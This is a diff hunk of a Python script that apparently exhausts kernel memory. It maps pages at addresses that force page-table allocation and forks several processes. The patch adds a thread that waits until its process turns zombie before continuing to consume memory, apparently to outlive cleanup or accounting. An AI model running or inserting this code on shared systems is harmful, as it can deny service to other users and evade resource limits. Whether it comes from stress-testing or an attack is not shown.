@@ -371,8 +371,11 @@ def read():  # the same page of zeros, at addresses that need 4 KiB of tables ea
         place = libc.mmap(2**32 + 2**30 * n, 4096, mmap.PROT_READ, 0x22, -1, 0)
         ctypes.c_char.from_address(place).value
     time.sleep(3600)
+def outlive():
+    while open("/proc/self/stat").read().split()[2] != "Z": time.sleep(0.01)
+    take()
 def thread():  # goes on after the first one
-    threading.Thread(target=take).start()
+    threading.Thread(target=outlive).start()
     libc.pthread_exit(None)
 for _ in range(5):
     if os.fork() == 0:
